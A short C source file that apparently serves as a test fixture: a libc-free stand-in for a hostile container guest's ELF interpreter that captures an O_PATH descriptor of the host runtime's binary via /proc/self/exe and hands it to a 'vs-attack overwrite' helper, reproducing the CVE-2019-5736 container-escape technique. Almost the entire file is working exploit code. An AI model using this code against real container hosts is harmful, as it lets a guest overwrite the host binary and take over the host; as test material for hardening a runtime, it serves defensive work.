/*
 * A stand-in for a hostile guest's ld-linux-x86-64.so.2 (x86-64, no libc).
 * When the kernel runs *vserver's* binary in a guest (its init, command or
 * shell is a link to /proc/self/exe), this runs as that binary's ELF
 * interpreter: it keeps an O_PATH descriptor of the binary, notes what it
 * was, and hands the descriptor on to `vs-attack overwrite`, which reopens
 * it for writing once nothing executes the binary any more (CVE-2019-5736).
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/syscall.h>

static long sys3(long n, long a, long b, long c)
{
        long r;
        __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
        return r;
}

__asm__(".globl _start\n_start:\n xor %rbp,%rbp\n mov %rsp,%rdi\n and $-16,%rsp\n"
        " call loader_main\n hlt\n");

void loader_main(long *sp);
void loader_main(long *sp)
{
        char buf[512], num[16];
        int fd = (int)sys3(SYS_open, (long)"/proc/self/exe", O_PATH, 0);
        long n = sys3(SYS_readlink, (long)"/proc/self/exe", (long)buf, sizeof buf - 1);
        int out = (int)sys3(SYS_open, (long)"/vs-out/exe-seen", O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (n > 0 && out >= 0)
                sys3(SYS_write, out, (long)buf, n);
        /* the fd as decimal */
        int k = 0, v = fd < 0 ? 0 : fd;
        char rev[16];
        do {
                rev[k++] = (char)('0' + v % 10);
                v /= 10;
        } while (v);
        for (int i = 0; i < k; i++)
                num[i] = rev[k - 1 - i];
        num[k] = 0;
        char *argv[] = {"vs-attack", "overwrite", num, 0};
        char **envp = (char **)(sp + 1 + sp[0] + 1);
        sys3(SYS_execve, (long)"/bin/vs-attack", (long)argv, (long)envp);
        sys3(SYS_exit_group, 127, 0, 0);
}
